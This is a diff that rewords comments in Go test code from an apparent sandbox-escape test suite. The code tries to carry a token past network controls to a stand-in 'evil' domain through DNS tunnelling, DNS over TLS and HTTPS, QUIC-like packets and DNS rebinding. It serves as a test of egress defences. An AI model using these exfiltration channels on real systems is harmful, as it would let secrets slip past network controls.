@@ -17,7 +17,7 @@ import (
 	"github.com/agent-sessionizer/agent-sessionizer/test/escape/plan"
 )
 
-// names are techniques that carry the token in questions of DNS.
+// names are the techniques that carry the token in DNS questions.
 func names() map[string]func(*attempt) {
 	foreign := net.JoinHostPort(plan.Foreign, "53")
 	real := net.JoinHostPort(plan.Resolver, "53")
@@ -75,9 +75,9 @@ func (a *attempt) asNeighbourDNS(name string) {
 	}
 }
 
-// dot is DNS over TLS to somebody else's resolver.
+// dot sends DNS over TLS to a foreign resolver.
 func dot(a *attempt) {
-	c, err := tls.DialWithDialer(&net.Dialer{Timeout: connectTime}, "tcp", net.JoinHostPort(plan.Foreign, "853"), &tls.Config{InsecureSkipVerify: true, ServerName: "dns.example.net"}) //nolint:gosec // the pretend internet signs for itself
+	c, err := tls.DialWithDialer(&net.Dialer{Timeout: connectTime}, "tcp", net.JoinHostPort(plan.Foreign, "853"), &tls.Config{InsecureSkipVerify: true, ServerName: "dns.example.net"}) //nolint:gosec // the pretend internet signs its own certificates
 	if err != nil {
 		say("dot: %v", err)
 		return
@@ -92,7 +92,7 @@ func dot(a *attempt) {
 	say("dot: %s %v", answer(c), err)
 }
 
-// doh asks the same over HTTPS, by address and on the shared address of a CDN.
+// doh asks the same over HTTPS, by address and on a CDN's shared address.
 func doh(a *attempt) {
 	q := new(dns.Msg)
 	q.SetQuestion(dns.Fqdn(a.token+".t."+plan.EvilName), dns.TypeA)
@@ -107,7 +107,7 @@ func doh(a *attempt) {
 	}
 }
 
-// quic sends what begins as a QUIC Initial does, with the token in it.
+// quic sends a datagram that begins like a QUIC Initial, with the token in it.
 func (a *attempt) quic(addr string, port int) {
 	initial := append([]byte{0xc3, 0, 0, 0, 1, 8, 1, 2, 3, 4, 5, 6, 7, 8, 0, 0, 0x44, 0x9e}, a.token...)
 	initial = append(initial, make([]byte, 1200-len(initial))...)
@@ -129,7 +129,7 @@ func quicAllowed(a *attempt) {
 	}
 }
 
-// tunnelBytes puts the token behind bytes that no host name has.
+// tunnelBytes puts the token behind bytes that no host name contains.
 func tunnelBytes(a *attempt) {
 	for _, name := range []string{
 		`\000` + a.token + "." + plan.EvilName,
@@ -143,7 +143,7 @@ func tunnelBytes(a *attempt) {
 	}
 }
 
-// tunnelTypes carries 16 bits in the type that is asked of an allowed name.
+// tunnelTypes carries 16 bits in the question type for an allowed name.
 func tunnelTypes(a *attempt) {
 	for _, qtype := range []uint16{dns.TypeTXT, dns.TypeMX, dns.TypeSRV, dns.TypeANY, dns.TypeHTTPS, dns.TypeNS, dns.TypeCNAME, dns.TypeSOA, 65280, 65281} {
 		a.ask("udp", a.resolverAddr(), plan.Allowed, qtype)
@@ -154,7 +154,7 @@ func tunnelTypes(a *attempt) {
 	a.exchange("udp", a.resolverAddr(), q)
 }
 
-// tunnelEDNS carries the token beside an allowed question.
+// tunnelEDNS carries the token next to an allowed question.
 func tunnelEDNS(a *attempt) {
 	q := new(dns.Msg)
 	q.SetQuestion(dns.Fqdn(plan.Allowed), dns.TypeA)
@@ -165,7 +165,7 @@ func tunnelEDNS(a *attempt) {
 	a.exchange("tcp", a.resolverAddr(), q)
 }
 
-// tunnelClass uses what is no plain question: another class, an update, a notice.
+// tunnelClass sends unusual messages: another class, an update, a notify.
 func tunnelClass(a *attempt) {
 	q := new(dns.Msg)
 	q.SetQuestion(dns.Fqdn(a.token+"."+plan.EvilName), dns.TypeTXT)
@@ -189,18 +189,18 @@ func tunnelTwo(a *attempt) {
 	a.exchange("tcp", a.resolverAddr(), q)
 }
 
-// tunnelPTR asks for names of addresses; the token is in a label before them.
+// tunnelPTR asks for the names of addresses; the token is in a label before them.
 func tunnelPTR(a *attempt) {
 	for _, zone := range []string{"10.in-addr.arpa", "ip6.arpa", "18.198.in-addr.arpa", "local", "internal"} {
 		a.ask("udp", a.resolverAddr(), a.token+"."+zone, dns.TypePTR)
 	}
 }
 
-// rebinding are the allowed names that lead where nobody may go.
+// rebinding are the allowed names that resolve to forbidden addresses.
 func rebinding() map[string]func(*attempt) {
 	all := map[string]func(*attempt){
 		"rebind-mixed": func(a *attempt) {
-			// Each address that the answer has, as a browser would when one fails.
+			// Try each address of the answer, as a browser would when one fails.
 			for _, addr := range a.resolve("mixed.example.com") {
 				a.send(addr.String(), 80, a.get("mixed.example.com"))
 			}
@@ -208,7 +208,7 @@ func rebinding() map[string]func(*attempt) {
 		"rebind-flip": func(a *attempt) {
 			for i := range 6 {
 				name := a.token + strconv.Itoa(i) + "." + plan.FlipZone
-				a.resolve(name) // the check…
+				a.resolve(name) // the first lookup, as for a check
 				a.send(name, 80, a.get(name))
 			}
 		},
@@ -216,7 +216,7 @@ func rebinding() map[string]func(*attempt) {
 			a.send("chain-lan.example.com", 80, a.get("chain-lan.example.com"))
 			a.httpsPath("chain-lan.example.com", 443, "chain-lan.example.com", "chain-lan.example.com", "/"+a.token)
 		},
-		"rebind-target": func(a *attempt) { // what an allowed alias leads to, asked for itself
+		"rebind-target": func(a *attempt) { // the target of an allowed alias, requested directly
 			for _, name := range []string{"edge.cdn.example.net", plan.EvilName} {
 				a.send(name, 80, a.get(name))
 			}
@@ -231,7 +231,7 @@ func rebinding() map[string]func(*attempt) {
 	return all
 }
 
-// httpsPath makes one HTTPS request, whatever it says to be and to want.
+// httpsPath makes one HTTPS request with any server name and Host.
 func (a *attempt) httpsPath(name string, port int, sni, host, path string) {
 	c, err := a.tlsClient(name, port, &tls.Config{ServerName: sni})
 	if err != nil {
@@ -251,11 +251,11 @@ func (a *attempt) overTLS(c net.Conn, host, path string) {
 	say("https host=%s: %s %v", host, answer(c), err)
 }
 
-// fetch is an ordinary client that follows where it is sent.
+// fetch is an ordinary client that follows redirects.
 func (a *attempt) fetch(url string) {
 	c := http.Client{
 		Timeout: connectTime,
-		Transport: &http.Transport{DisableKeepAlives: true, Dial: func(_, addr string) (net.Conn, error) { //nolint:staticcheck // no context to pass on
+		Transport: &http.Transport{DisableKeepAlives: true, Dial: func(_, addr string) (net.Conn, error) { //nolint:staticcheck // there is no context to pass on
 			host, port, err := net.SplitHostPort(addr)
 			if err != nil {
 				return nil, err
